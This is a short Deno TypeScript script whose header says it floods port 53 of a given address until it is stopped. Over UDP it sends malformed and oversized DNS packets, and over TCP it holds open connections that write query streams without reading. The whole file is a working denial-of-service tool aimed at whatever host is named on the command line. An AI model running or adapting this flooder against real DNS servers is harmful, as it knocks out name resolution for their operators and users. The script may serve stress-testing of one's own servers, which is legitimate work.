/**
 * Floods port 53 of an address until it is killed. Arguments: `udp` or `tcp`, and the address.
 *
 * Over UDP: names on no list, malformed packets, and now and then one of 60,000 bytes. Over TCP: connections that ask
 * without reading.
 */

import { query } from "./packets.ts";

const [transport, hostname = ""] = Deno.args;
const server = { transport: "udp", hostname, port: 53 } as const;

async function floodUdp(): Promise<void> {
  const socket = Deno.listenDatagram({ transport: "udp", hostname: "0.0.0.0", port: 0 });
  for (let i = 0;; i++) {
    const packet = i % 50 === 0
      ? new Uint8Array(60_000)
      : i % 2 === 0
      ? query({ name: `x${i}.evil.test` })
      : query().subarray(0, 20);
    await socket.send(packet, server).catch(() => {});
  }
}

async function floodTcp(): Promise<void> {
  const message = query({ name: "api.example.com" });
  const framed = Uint8Array.from([0, message.length, ...message]);
  const stream = Uint8Array.from(Array.from({ length: 500 }, () => [...framed]).flat());
  const open: Deno.Conn[] = [];
  for (;;) {
    try {
      const connection = await Deno.connect({ hostname, port: 53 });
      void connection.write(stream).catch(() => {});
      open.push(connection);
      if (open.length > 200) open.shift()?.close();
    } catch {
      // Refused: the next one.
    }
  }
}

// deno-lint-ignore no-console -- whoever has started it waits for this
console.log("flooding");
await (transport === "tcp" ? floodTcp() : floodUdp());
